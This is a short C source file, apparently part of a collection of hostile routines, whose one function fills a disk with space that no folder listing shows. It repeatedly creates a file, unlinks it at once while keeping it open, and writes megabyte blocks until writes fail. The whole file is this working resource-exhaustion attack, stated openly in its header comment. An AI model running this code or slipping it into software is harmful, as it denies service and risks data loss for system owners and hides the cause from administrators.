/* Fills the disk with files that no folder shows. */
#include "deed.h"

static void deed(void)
{
	static char block[1 << 20];

	for (;;) {
		int fd = open("hidden", O_WRONLY | O_CREAT | O_EXCL, 0644);
		unlink("hidden");
		for (int n = 0; n < 1024; n++)
			if (write(fd, block, sizeof block) < 0)
				return;
	}
}
